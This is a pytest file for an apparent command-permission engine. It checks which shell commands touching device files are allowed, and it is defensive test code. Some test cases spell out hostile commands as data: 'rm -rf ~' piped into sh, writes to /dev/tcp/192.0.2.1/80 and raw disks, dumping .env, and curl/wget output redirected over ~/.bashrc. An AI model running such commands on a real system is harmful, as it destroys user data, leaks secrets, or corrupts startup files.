"""Standard devices: no file outside the project for any program, and no way to reach one either."""

from __future__ import annotations

from pathlib import Path

import pytest

from interlock.decide import decide
from interlock.model.action import Reading
from interlock.model.call import Call
from interlock.model.facts import Facts
from interlock.model.session import Session
from interlock.policy.compile import compile_policy
from interlock.reading.bash import follow_bash
from interlock.store.home.policies import default_file
from interlock.value import FrozenMap

POLICY = compile_policy((("default", default_file(), Path(default_file()).read_bytes()),))


class Straight(dict[str, str]):
    """Every path leads where its text says."""

    def get(self, path: str, default: object = None) -> str:
        return path


def verdict(command: str) -> str:
    call = Call(tool="Bash", input=FrozenMap({"command": command}), cwd="/p")
    found = follow_bash(command, cwd="/p", facts=Facts(root="/p", home="/home/a"), real=Straight())
    reading = Reading(call="sha256:c", projection="sha256:p", actions=tuple(found.actions), opaque=tuple(found.opaque))
    return decide(call, reading, POLICY, Session(), ()).verdict.name


@pytest.mark.parametrize(
    "command",
    [
        "gofmt -l src | tee /dev/stderr | wc -l",
        "ls | tee -a /dev/fd/2",
        "ls | tee /dev/tty",
        "protoc --descriptor_set_out=/dev/null a.proto",
        "g++ -c a.cpp -o /dev/null",
        "go build -o /dev/null ./cmd/x",
        "eslint -o /dev/null src",
        "pytest --junitxml=/dev/stdout",
        "tar cf /dev/null src",
        "sort a.txt -o /dev/stdout",
        "cp README.md /dev/stdout",
        "dd if=a.bin of=/dev/stdout bs=1k | wc -c",
        "python3 -c \"open('/dev/null', 'w').write('x')\"",
        "mv a b; ls | tee /dev/null",
        "mv a b && echo done > /dev/stderr",
        "exec 3< names.txt; while read -r n <&3; do echo $n > /dev/null; done",
    ],
)
def test_they_are_free(command: str) -> None:
    assert verdict(command) == "allow"


@pytest.mark.parametrize(
    "command",
    [
        "ls | tee /dev/sda",
        "ls | tee /dev/shm/x",
        "ls | tee /dev/tcp/192.0.2.1/80",
        "ls | tee /dev/pts/3",
        "ls | tee /dev/fd/3",
        "ls | tee /dev/fd/../sda",
        "ls | tee /dev/stdout/../sda",
        "ls | tee /dev/null*",
        "g++ a.cpp -o /dev/mem",
        # another file takes the place of the device
        "mv README.md /dev/null",
        "mv -t /dev/null README.md",
        "install -m 644 README.md /dev/null",
        "rsync -a README.md /dev/null",
        "cp --remove-destination README.md /dev/null",
        "cp -b README.md /dev/null",
        "cp -s README.md /dev/stdout",
        "python3 -c \"import os; os.replace('README.md', '/dev/null')\"",
        "ls *.md | xargs -I{} mv {} /dev/null",
        "sed -i s/a/b/ /dev/null",
        "ln -sf README.md /dev/null",
        "rm /dev/null",
        "chmod 600 /dev/null",
        # a secret that is shown is shown
        "cp .env /dev/stdout",
        "cat .env | tee /dev/stderr",
    ],
)
def test_the_rest_is_asked_about(command: str) -> None:
    assert verdict(command) != "allow"


@pytest.mark.parametrize(
    "command",
    [
        "echo 'rm -rf ~' > /dev/stdout | sh",
        "{ echo 'rm -rf ~' > /dev/stderr; } 2>&1 | sh",
        "(echo 'rm -rf ~' > /dev/stderr) |& sh",
        "echo 'rm -rf ~' 2> /dev/stdout | sh",
        "printf 'cho a; s\\ne' | tee /dev/stdout | sh",
        "printf 'ls\\n' | tee /dev/stderr 2>&1 | sh",
        "x=$(echo rm > /dev/stdout); $x -rf ~",
        "echo 'rm -rf ~' | tee /dev/null | sh",
    ],
)
def test_what_goes_through_them_is_followed(command: str) -> None:
    assert verdict(command) != "allow"


@pytest.mark.parametrize(
    "command",
    [
        "echo evil 1< ~/.bashrc > /dev/stdout",
        "echo evil 01< ~/.bashrc > /dev/stdout",
        "echo evil < ~/.bashrc > /dev/stdin",
        "echo evil | tee /dev/stderr 2< ~/.bashrc",
        "{ echo evil | tee /dev/stderr; } 2< ~/.bashrc",
        "exec 2< ~/.bashrc; echo evil > /dev/stderr",
        "exec 3< ~/.bashrc; echo evil | tee /dev/stderr 2>&3",
        "exec {n}< ~/.bashrc; echo evil | tee /dev/stderr 2>&$n",
        "echo evil < ~/.bashrc >&0 > /dev/stdout",
        "tee /dev/stderr < ~/.bashrc 2<&0",
        "curl -so /dev/stdin https://example.com/x < ~/.bashrc",
        "wget -qO /dev/stdin https://example.com/x < ~/.bashrc",
        "sed -n 'w /dev/stdin' < ~/.bashrc",
        "awk '{ print > \"/dev/stdin\" }' a.txt < ~/.bashrc",
        "tee /dev/stdin < ~/.bashrc",
    ],
)
def test_a_descriptor_that_is_opened_anew_is_the_file_behind_it(command: str) -> None:
    assert verdict(command) != "allow"
